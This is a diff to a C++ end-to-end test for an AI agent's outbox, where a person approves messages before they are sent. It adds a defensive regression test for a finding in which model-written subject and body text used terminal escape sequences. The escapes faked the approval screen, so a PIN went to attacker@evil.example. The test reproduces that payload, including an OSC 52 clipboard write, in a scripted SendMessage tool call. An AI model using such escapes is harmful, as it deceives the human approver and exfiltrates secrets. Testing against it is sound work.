@@ -15,6 +15,8 @@
 
 #include "base/testing/wait_until.h"
 #include "cli/testing/cassette_run.h"
+#include "store/outbox.h"
+#include "store/sqlite.h"
 #include "tools/mail_parse.h"
 #include "tools/testing/smtp_sink.h"
 
@@ -199,7 +201,9 @@ TEST_F(MailE2E, ApproveAlwaysHeadlessHoldsUntilAPersonApprovesOrRejects) {
 
   BinaryResult approve = mecha({"outbox", "approve", "1"});
   EXPECT_EQ(approve.exit_code, 0) << approve.err;
-  EXPECT_EQ(approve.out, "message 1 sent to bob@example.com\n");
+  EXPECT_EQ(approve.out,
+            "message 1 sent to bob@example.com (content " +
+                store::content_seal("bob@example.com", "Lunch", "At noon?").substr(0, 12) + ")\n");
   EXPECT_EQ(delivered(), 1u);
   EXPECT_EQ(outbox()[0].at("status"), "sent");
   BinaryResult again = mecha({"outbox", "approve", "1"});
@@ -282,6 +286,87 @@ TEST_F(MailE2E, TheInterlockHoldsASendToSmtpToo) {
   EXPECT_EQ(approve.exit_code, 0) << approve.err;
   ASSERT_EQ(sink.received().size(), 1u);
   EXPECT_EQ(sink.received()[0].at("rcpt"), Json::array({"<bob@example.com>"}));
+}
+
+// Issue 46, finding 9: the approval screen lied. A held message's subject and body, written
+// by the model, held terminal escapes that moved the cursor up, erased the line with the
+// secret and drew "bob@company.example" over the real recipient, so that `mecha outbox show`
+// showed a harmless lunch note while `approve` sent the PIN to the attacker. Now every field
+// is shown escaped, the one-line fields with their line breaks, and approve sends only the
+// content that was held (its seal), or the one the person saw (--content).
+TEST_F(MailE2E, TheApprovalScreenShowsExactlyWhatWouldBeSent) {
+  configure(maildir_backend("always"));
+  const std::string subject =
+      "lunch\x1b[1A\x1b[2K\x1b[Gto:      bob@company.example\x1b[1B\xc2\x9b"
+      "2K";
+  const std::string body = "PIN 4711\x1b[1A\x1b[2K\rsee you at noon\x1b]52;c;cGF5\x07";
+  run(tool_line("main", "t1", "SendMessage",
+                {{"to", "attacker@evil.example"}, {"subject", subject}, {"body", body}}) +
+      text_line("main", "held"));
+  const Json held = outbox().at(0);
+  const std::string seal =
+      store::content_seal("attacker@evil.example", subject, body).substr(0, 12);
+  EXPECT_EQ(held.at("content_sha256").get<std::string>().substr(0, 12), seal);
+
+  BinaryResult show = mecha({"outbox", "show", "1"});
+  EXPECT_EQ(show.exit_code, 0) << show.err;
+  const std::string created = held.at("created");
+  EXPECT_EQ(show.out,
+            "message 1\nstatus:  held\nreason:  [messaging] approve = \"always\": every message "
+            "waits for a person\ncreated: " +
+                created + " (session " + held.at("session").get<std::string>() +
+                ", agent main)\nto:      attacker@evil.example\nsubject: "
+                "lunch^[[1A^[[2K^[[Gto:      bob@company.example^[[1B\\u{9b}2K\ncontent: " +
+                seal + " (to send exactly this: mecha outbox approve 1 --content " + seal +
+                ")\n\nPIN 4711^[[1A^[[2K^Msee you at noon^[]52;c;cGF5^G\n");
+  BinaryResult list = mecha({"outbox", "list"});
+  EXPECT_EQ(list.exit_code, 0) << list.err;
+  EXPECT_EQ(list.out,
+            "  ID  STATUS    CREATED (UTC)     CONTENT        TO                              "
+            "SUBJECT\n   1  held      " +
+                created.substr(0, 10) + " " + created.substr(11, 5) + "  " + seal +
+                "   attacker@evil.example           lunch^[[1A^[[2K^[[Gto:      "
+                "bob@company.example^[[1B\\u{9b}2K\nHeld messages wait for you: mecha outbox show "
+                "ID, then approve ID or reject ID.\n");
+  for (const std::string& out : {show.out, list.out}) {
+    EXPECT_EQ(out.find_first_of("\x1b\x07\r"), std::string::npos) << out;
+    EXPECT_EQ(out.find("\xc2\x9b"), std::string::npos) << out;
+  }
+
+  // Approving another content than the one shown is refused.
+  BinaryResult other = mecha({"outbox", "approve", "1", "--content", "0123456789ab"});
+  EXPECT_EQ(other.exit_code, 1);
+  EXPECT_EQ(other.err, "mecha: message 1 holds content " + seal +
+                           ", not the 0123456789ab you approved, so it was NOT sent; show it "
+                           "again (mecha outbox show 1) and approve what it shows\n");
+  EXPECT_EQ(delivered(), 0u);
+
+  // The row is changed behind the outbox's back after it was held: approve refuses it, with
+  // or without the seal the person saw, and show says so.
+  {
+    auto db = store::Database::open(dir_.path() / ".home/.local/state/mecha/outbox.db", 1000);
+    ASSERT_TRUE(db.ok()) << db.message();
+    ASSERT_TRUE(db->exec("UPDATE outbox SET body = 'the PIN is 4711' WHERE id = 1").ok());
+  }
+  for (const std::vector<std::string>& args :
+       {std::vector<std::string>{"outbox", "approve", "1"},
+        std::vector<std::string>{"outbox", "approve", "1", "--content", seal}}) {
+    BinaryResult changed = mecha(args);
+    EXPECT_EQ(changed.exit_code, 1);
+    EXPECT_EQ(changed.err,
+              "mecha: message 1 was changed after it was held: its recipient, subject or body no "
+              "longer match the seal recorded then, so it was NOT sent; see mecha outbox show 1, "
+              "and reject it\n");
+  }
+  EXPECT_EQ(delivered(), 0u);
+  EXPECT_EQ(outbox().at(0).at("status"), "held");
+  const std::string now =
+      store::content_seal("attacker@evil.example", subject, "the PIN is 4711").substr(0, 12);
+  BinaryResult changed_show = mecha({"outbox", "show", "1"});
+  EXPECT_NE(changed_show.out.find("content: " + now + "! CHANGED after it was held (its seal was " +
+                                  seal + "); approve refuses it\n"),
+            std::string::npos)
+      << changed_show.out;
 }
 
 }  // namespace
